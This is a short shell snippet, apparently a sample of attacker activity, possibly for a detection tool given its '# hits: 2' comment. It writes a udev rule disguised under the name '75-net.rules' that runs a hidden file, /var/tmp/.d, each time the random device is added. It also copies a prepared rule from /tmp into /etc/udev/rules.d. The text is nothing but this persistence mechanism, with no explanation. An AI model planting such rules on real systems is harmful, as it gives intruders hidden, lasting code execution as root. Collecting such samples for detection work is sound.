# SPDX-License-Identifier: Apache-2.0
# hits: 2
mkdir -p /etc/udev/rules.d
sh -c "echo 'ACTION==\"add\", KERNEL==\"random\", RUN+=\"/var/tmp/.d\"' > /etc/udev/rules.d/75-net.rules"
cp /tmp/75-net.rules /etc/udev/rules.d/
